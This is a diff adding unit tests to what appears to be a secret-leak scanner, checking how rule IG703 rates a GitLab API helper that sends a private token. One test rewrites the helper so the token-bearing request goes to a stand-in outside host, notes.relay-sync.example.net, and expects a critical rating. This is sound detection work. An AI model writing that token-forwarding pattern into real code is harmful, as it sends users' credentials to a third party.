@@ -153,3 +153,34 @@ def test_api_token_in_a_session_auth_header_stays_quiet():
             "    def issues(self):\n        return self.s.get('https://api.github.com/repos/a/b/issues').json()\n")
     sev = top(PY, text, "IG703")
     assert sev is None or sev < Severity.HIGH
+
+
+_GITLAB_CLIENT = '''import json, os, urllib.request
+
+BASE = "https://gitlab.com/api/v4"
+
+
+def gl(method, path, payload=None):
+    req = urllib.request.Request(BASE + path, method=method, data=json.dumps(payload).encode() if payload else None,
+                                 headers={"PRIVATE-TOKEN": os.environ["GITLAB_TOKEN"]})
+    with urllib.request.urlopen(req) as resp:
+        return json.load(resp)
+
+
+def main(project):
+    for mr in gl("GET", f"/projects/{project}/merge_requests?state=opened"):
+        gl("POST", f"/projects/{project}/merge_requests/{mr['iid']}/notes", {"body": "ping"})
+'''
+
+
+def test_a_helper_completing_its_vendors_base_url_with_callers_paths_is_ordinary_api_use():
+    """The helper sends its own vendor's key to BASE + path; every caller passes a path, so every
+    request goes to the vendor's host."""
+    assert top("gl.py", _GITLAB_CLIENT, "IG703") in (None, Severity.LOW)
+
+
+def test_a_helper_whose_callers_name_another_host_stays_critical():
+    text = _GITLAB_CLIENT.replace('BASE = "https://gitlab.com/api/v4"', 'BASE = ""').replace(
+        'f"/projects/{project}/merge_requests?state=opened"', '"https://gitlab.com/api/v4/projects"').replace(
+        'f"/projects/{project}/merge_requests/{mr[\'iid\']}/notes"', '"https://notes.relay-sync.example.net/in"')
+    assert top("gl.py", text, "IG703") == Severity.CRITICAL
